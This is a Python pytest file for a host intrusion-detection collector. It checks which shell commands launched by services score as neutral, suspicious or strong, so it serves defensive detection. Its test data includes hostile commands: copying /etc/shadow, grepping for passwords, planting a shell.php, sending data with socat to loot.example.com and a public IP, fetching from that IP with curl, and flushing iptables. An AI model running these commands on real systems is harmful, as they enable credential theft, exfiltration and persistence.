"""What software starts of its own accord, hours after its start, is nothing odd; the same tools in other words are."""

import shlex

import pytest
from detection.execs import exec_of

from collector.detect.argument_context import traits
from collector.detect.named_hosts import outside
from collector.detect.service_calls import is_ordinary, of_image
from collector.detect.tools import Level

SERVER = "/usr/sbin/server"


def said(words: str, parent: str = SERVER) -> Level:
    return exec_of("/usr/bin/dash", "sh", "-c", words, parent=parent).level


def told(words: str, parent: str = "/usr/bin/bash") -> Level:
    return exec_of(f"/usr/bin/{words.split(maxsplit=1)[0]}", *shlex.split(words), parent=parent).level


@pytest.mark.parametrize(
    "words",
    [
        "nproc --all",
        "lscpu -J",
        "uname -p 2> /dev/null",
        "uname -sm",
        "hostname -f",
        "free -m",
        "cat /proc/meminfo",
        "cat /proc/cpuinfo | grep processor | wc -l",
        "cat /sys/class/net/eth0/operstate",
        "ps -o rss= -p 27",
        "ps -p 1",
        "pgrep -f worker",
        "kill -HUP 1",
        "killall -0 haproxy",
        "openssl version",
        "which ffmpeg",
        "gpg --version",
        "python3 --version",
        "nc -z 127.0.0.1 6443",
        "curl -fs http://localhost:8080/health",
        "ip -4 route show default",
        "exit 0",
        "echo failover done",
        "ulimit -n",
    ],
)
def test_a_service_that_asks_about_its_machine_and_itself_is_not_odd(words: str) -> None:
    assert said(words) <= Level.NEUTRAL


@pytest.mark.parametrize(
    "words",
    [
        "uname -a",
        "uname -r; id",
        "hostname; whoami",
        "hostname; cat /srv/ledger/books",
        "cat /proc/meminfo /etc/passwd",
        "cat /proc/1/cgroup",
        "cat /etc/os-release",
        "cat /proc/cpuinfo | grep -r password /srv",
        "ps aux",
        "pgrep -la",
        "kill -9 1; kill -HUP 1",
        "which nc",
        "which curl wget python3",
        "pkexec --version",
        "curl -fs http://localhost:8080/health -o /srv/x; curl http://203.0.113.9/x",
        "echo x > /srv/www/x.php",
        "eval $COMMAND",
        "set; cat /etc/issue",
    ],
)
def test_who_asks_more_than_a_service_needs_is_odd(words: str) -> None:
    assert said(words) >= Level.SUSPICIOUS


@pytest.mark.parametrize(
    "words",
    [
        "socat -u stdio TCP:10.42.1.7:4444",
        "socat -u TCP-LISTEN:4444,reuseaddr,retry=30 stdio",
        "socat -u stdio openssl-connect:10.42.1.7:4444,cert=/etc/mysql/cert.pem,verify=1",
        "socat -u openssl-listen:4444,reuseaddr,cert=/etc/mysql/cert.pem stdio",
        "socat -u stdio TCP:db-1.db-headless:4444",
    ],
)
def test_a_replica_gets_its_data_from_another_through_a_pipe(words: str) -> None:
    assert told(words) is Level.NEUTRAL


@pytest.mark.parametrize(
    "words",
    [
        "socat -u stdio TCP:203.0.113.9:4444",
        "socat -u stdio openssl-connect:loot.example.com:443",
        "socat stdio TCP:10.42.1.7:4444",
        "socat -u TCP-LISTEN:4444,fork EXEC:/bin/cat",
        "socat -u stdio TCP:10.42.1.7:4444,exec=x",
        "socat -u /etc/hosts TCP:10.42.1.7:4444",
        "socat TCP-LISTEN:8080,fork TCP:10.42.0.9:22",
    ],
)
def test_data_that_goes_elsewhere_or_to_a_program_is_odd(words: str) -> None:
    assert told(words) >= Level.STRONG


@pytest.mark.parametrize(
    ("words", "parent"),
    [
        ("cp pg_wal/0A /mnt/archive/0A", "/usr/bin/dash"),
        ("find /var/log/nginx -name *.gz -mtime +7 -delete", "/usr/bin/bash"),
        ("chown -R app:app /var/lib/app", "/usr/bin/bash"),
        ("du -s /var/lib/app", "/usr/bin/bash"),
        ("lsof -Pnl -i :4444", "/usr/bin/bash"),
        ("dig +short db-unready.shop.svc.cluster.local", "/usr/bin/bash"),
        ("sshd -D -e -R", "/usr/sbin/sshd"),
        ("ssh git@git.example.com \"git-upload-pack 'x'\"", "/usr/bin/git"),
        ("iptables -w 3 -nvL INPUT -x", "/usr/bin/agent"),
        ("as --64 -o /srv/x.o", "/usr/bin/gcc"),
        ("gcc -Wl,-t -o /tmp/x -lmagic", "/usr/bin/python3.11"),
        ("python3 /opt/app/route.py", "/usr/bin/bash"),
    ],
)
def test_a_service_tends_its_own_data_and_connections(words: str, parent: str) -> None:
    assert told(words, parent) <= Level.NEUTRAL


@pytest.mark.parametrize(
    ("words", "parent"),
    [
        ("cp /etc/shadow /srv/x", "/usr/bin/dash"),
        ("cp /srv/x /srv/www/shell.php", "/usr/bin/dash"),
        ("find /var/log/nginx -delete", "/usr/bin/bash"),
        ("chmod 4755 /var/lib/app/x", "/usr/bin/bash"),
        ("lsof -i", "/usr/bin/bash"),
        ("dig any.any.svc.cluster.local", "/usr/bin/bash"),
        ("sshd -p 2222", "/usr/bin/bash"),
        ("ssh -o ProxyCommand=x h \"git-upload-pack 'x'\"", "/usr/bin/git"),
        ("ssh root@10.0.0.9", "/usr/bin/git"),
        ("iptables -F", "/usr/bin/agent"),
        ("gcc -o /srv/x /srv/x.c", "/usr/bin/python3.11"),
        ("gcc -Wl,-t -o /srv/x /srv/x.c", "/usr/bin/python3.11"),
        ("python3 /srv/x.py", "/usr/bin/bash"),
        ("python3 -c print(1) /opt/app/route.py", "/usr/bin/bash"),
    ],
)
def test_the_same_tools_in_other_words_are_odd(words: str, parent: str) -> None:
    assert told(words, parent) >= Level.SUSPICIOUS


@pytest.mark.parametrize(
    ("path", "brought"),
    [
        ("/usr/bin/wsrep_sst_rsync", True),
        ("/etc/keepalived/notify.sh", True),
        ("/wait-shutdown", True),
        ("/usr/lib/cgi-bin/status", False),
        ("/opt/app/x.cgi", False),
        ("/tmp/x.sh", False),
        ("/usr/share/.x/y", False),
        ("/opt/../tmp/x", False),
        ("/srv/data/x.sh", False),
        ("x.sh", False),
    ],
)
def test_scripts_that_images_bring_are_started_by_their_services(path: str, *, brought: bool) -> None:
    assert of_image(path) is brought
    assert (exec_of("/usr/bin/bash", "bash", "-ue", path, "--role", "donor", parent=SERVER).level <= Level.NEUTRAL) is brought


@pytest.mark.parametrize("hook", ["hooks/pre-receive", "./hooks/post-receive"])
def test_git_runs_the_hooks_of_a_repository_and_nobody_else_does(hook: str) -> None:
    assert exec_of("/usr/bin/bash", "bash", hook, parent="/usr/bin/git").level is Level.NEUTRAL
    assert exec_of("/usr/bin/bash", "bash", hook, parent=SERVER).level >= Level.SUSPICIOUS


def test_an_interpreter_may_have_a_shell_run_it_with_another_script() -> None:
    assert said("'/usr/local/bin/php' 'artisan' queue:work > /dev/null 2>&1 &", "/usr/local/bin/php") is Level.NEUTRAL
    assert said("php artisan queue:work", "/usr/sbin/php-fpm8.2") is Level.NEUTRAL
    assert said("php artisan queue:work", "/usr/bin/node") is Level.SUSPICIOUS
    assert said("php -r 'system(1);'", "/usr/local/bin/php") >= Level.SUSPICIOUS


@pytest.mark.parametrize("words", ["exec /bin/sh -s unix:cmd", "exec sh -s disksup 2>&1"])
def test_erlang_reads_what_it_is_to_run_from_a_shell_it_keeps(words: str) -> None:
    assert said(words, "/usr/lib/erlang/erts/bin/erl_child_setup") is Level.NEUTRAL
    assert said(f"{words}; id", "/usr/lib/erlang/erts/bin/erl_child_setup") >= Level.SUSPICIOUS


@pytest.mark.parametrize("words", ["hostname -f", "curl -s http://api:8080/health", "cat /proc/meminfo", "nproc"])
def test_a_person_who_asks_what_services_ask_looks_around(words: str) -> None:
    assert exec_of("/usr/bin/dash", "sh", "-c", words, parent="", injected=True).inspection or words.startswith("cat")
    name = words.split(maxsplit=1)[0]
    assert is_ordinary(name, tuple(words.split()))
    assert not is_ordinary(name, tuple(words.split()), person=True)
    assert traits("/usr/bin/dash", ("sh", "-c", "hostname -f; nproc"), person=True)


@pytest.mark.parametrize(
    ("url", "is_outside"),
    [
        ("mongodb://db-0.db-headless:27017", False),
        ("http://web-1.com/", True),
        ("http://c-2.com/", True),
        ("http://xn-1.xn--p1ai/", True),
    ],
)
def test_the_replica_of_a_set_is_inside_by_its_own_services_name(url: str, *, is_outside: bool) -> None:
    assert outside(url) is is_outside


@pytest.mark.parametrize(
    ("url", "is_outside"),
    [
        ("http://[2a00:1450::5]/x.sh", True),
        ("http://user:word@[2a00:1450::5]:8080/x", True),
        ("http://[::1]:8080/x", False),
        ("https://[fd12::7]/x", False),
        ("http://[no", False),
    ],
)
def test_an_address_in_brackets_is_outside_if_it_is_public(url: str, *, is_outside: bool) -> None:
    assert outside(url) is is_outside


def test_a_shell_that_reads_commands_from_its_input_runs_no_script() -> None:
    assert exec_of("/usr/bin/bash", "bash", "-s", "/opt/app/x.sh", parent=SERVER).level >= Level.SUSPICIOUS
